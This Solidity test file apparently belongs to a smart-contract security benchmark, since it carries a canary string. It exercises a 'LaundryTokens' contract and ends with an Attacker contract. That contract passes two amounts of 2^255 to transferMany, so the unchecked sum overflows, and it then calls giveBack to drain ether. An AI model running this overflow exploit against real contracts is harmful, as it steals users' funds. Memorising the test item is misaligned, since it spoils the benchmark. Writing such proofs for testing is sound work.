pragma solidity 0.5.17;

import "./LaundryTokens.sol";

// assay-canary-9289e352-4e6e-4439-821d-d492e278134a

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);

    LaundryTokens private tokens;
    Attacker private mallory;

    function setUp() public {
        tokens = new LaundryTokens();
        vm.deal(address(this), 1 ether);
        tokens.sell.value(0.06 ether)(ANA, 30);
        mallory = new Attacker(tokens);
    }

    function () external payable {}

    function lists(address a, uint x, address b, uint y) private pure returns (address[] memory to, uint[] memory amounts) {
        to = new address[](2);
        amounts = new uint[](2);
        (to[0], to[1]) = (a, b);
        (amounts[0], amounts[1]) = (x, y);
    }

    function test_Regular() public {
        require(tokens.sell.value(0.01 ether)(BEN, 5) == 5 && tokens.totalSupply() == 35, "sold");
        (address[] memory to, uint[] memory amounts) = lists(BEN, 4, address(0xCA7), 6);
        vm.startPrank(ANA);
        require(tokens.transferMany(to, amounts) == 10, "moved");
        require(tokens.transfer(BEN, 1) && tokens.balanceOf(ANA) == 19 && tokens.balanceOf(BEN) == 10, "moved one");
        tokens.pay(3);
        tokens.start();
        vm.stopPrank();
        require(tokens.cycles(ANA) == 2 && tokens.totalSupply() == 32, "started");
        vm.prank(BEN);
        require(tokens.giveBack(4) == 0.008 ether && BEN.balance == 0.008 ether, "given back");
        uint before = address(this).balance;
        tokens.collect(0.006 ether);
        require(address(this).balance == before + 0.006 ether, "collected");
        tokens.setCaretaker(ANA);
        require(tokens.caretaker() == ANA, "another caretaker");
    }

    function test_RefusesTenants() public {
        (address[] memory to, uint[] memory amounts) = lists(BEN, 20, ANA, 11);
        vm.startPrank(ANA);
        vm.expectRevert("the balance is too low");
        tokens.transferMany(to, amounts);
        amounts[1] = 1;
        vm.expectRevert("the lists differ in length");
        tokens.transferMany(new address[](3), amounts);
        vm.expectRevert("the list is too long");
        tokens.transferMany(new address[](21), new uint[](21));
        to[0] = address(0);
        vm.expectRevert("the receiver is the zero address");
        tokens.transferMany(to, amounts);
        vm.expectRevert("the receiver is the zero address");
        tokens.transfer(address(0), 1);
        vm.expectRevert("the balance is too low");
        tokens.transfer(BEN, 31);
        vm.expectRevert("the balance is too low");
        tokens.pay(31);
        vm.expectRevert("no cycle is paid for");
        tokens.start();
        vm.expectRevert("only the caretaker may sell");
        tokens.sell(ANA, 1);
        vm.expectRevert("only the caretaker may leave");
        tokens.setCaretaker(ANA);
        vm.expectRevert("only the caretaker may collect");
        tokens.collect(0);
        vm.expectRevert("the balance is too low");
        tokens.giveBack(31);
        vm.stopPrank();
    }

    function test_RefusesCaretakers() public {
        vm.expectRevert("the tenant is the zero address");
        tokens.sell(address(0), 1);
        vm.expectRevert("the caretaker is the zero address");
        tokens.setCaretaker(address(0));
        vm.expectRevert("too many tokens");
        tokens.sell.value(0.002 ether)(BEN, 1000001);
        vm.expectRevert("the price is not paid");
        tokens.sell.value(0.002 ether - 1)(BEN, 1);
        vm.expectRevert("it is the tenants'");
        tokens.collect(1);
        vm.expectRevert("there is less");
        tokens.collect(1 ether);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 0.05 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(tokens);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    LaundryTokens private tokens;

    constructor(LaundryTokens t) public {
        tokens = t;
    }

    function run() external {
        address[] memory to = new address[](2);
        uint[] memory amounts = new uint[](2);
        (to[0], to[1]) = (address(this), address(0xF00));
        (amounts[0], amounts[1]) = (uint(1) << 255, uint(1) << 255);
        tokens.transferMany(to, amounts);
        tokens.giveBack(30);
    }

    function () external payable {}
}
